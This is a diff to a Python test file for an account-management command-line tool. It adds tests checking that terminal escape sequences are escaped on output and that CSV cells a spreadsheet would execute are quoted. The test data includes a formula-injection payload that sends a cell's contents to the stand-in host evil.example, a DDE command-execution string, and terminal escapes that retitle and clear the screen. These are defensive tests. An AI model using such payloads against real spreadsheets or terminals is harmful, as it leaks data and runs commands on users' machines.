@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -166,3 +168,44 @@ def test_pdf_command_unknown_slug(runner, project_dir, add_account):
     result = invoke(runner, project_dir, "pdf", "nortwind")
     assert result.exit_code == 1
     assert "no account 'nortwind' (did you mean 'northwind'?)" in result.stderr
+
+
+def test_terminal_escapes_from_a_file_are_never_printed(runner, project_dir, add_account):
+    add_account("good", FULL_ACCOUNT)
+    add_account("escapes", front(r'''
+        name: "Esc\e]0;PWNED\a\e[2J Corp"
+        status: active
+        owner: "Dana\e[31m Reyes"
+        meeting:
+          when: 2026-12-03 10:00
+          with: ["\e]0;PWNED\a\e[2J"]
+        people: [{name: Priya}]
+    '''))
+    for command in (["check"], ["build", "--no-pdf"], ["list"]):
+        result = invoke(runner, project_dir, *command)
+        assert "\x1b" not in result.output and "\x07" not in result.output, command
+    warned = invoke(runner, project_dir, "check").stderr
+    assert ("escapes.md:7:10: warning: meeting.with[0]: '\\x1b]0;PWNED\\x07\\x1b[2J' is not in "
+            "people") in warned
+    table = invoke(runner, project_dir, "list").stdout
+    assert "Esc\\x1b]0;PWNED\\x07\\x1b[2J Corp" in table and "Dana\\x1b[31m Reyes" in table
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(runner, project_dir, add_account):
+    add_account("formula", front('''
+        name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+        status: active
+        owner: "+cmd|' /C calc'!A0"
+    '''))
+    add_account("plain", front('''
+        name: Plain Corp
+        status: active
+        owner: "@Dana"
+    '''))
+    rows = list(csv.DictReader(io.StringIO(invoke(runner, project_dir, "list", "--format",
+                                                  "csv").stdout)))
+    assert [(r["name"], r["owner"]) for r in rows] == [
+        ("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0"),
+        ("Plain Corp", "'@Dana")]
+    assert json.loads(invoke(runner, project_dir, "list", "--format", "json").stdout)[0][
+        "name"].startswith("=HYPERLINK")  # JSON is data for programs: it stays as written
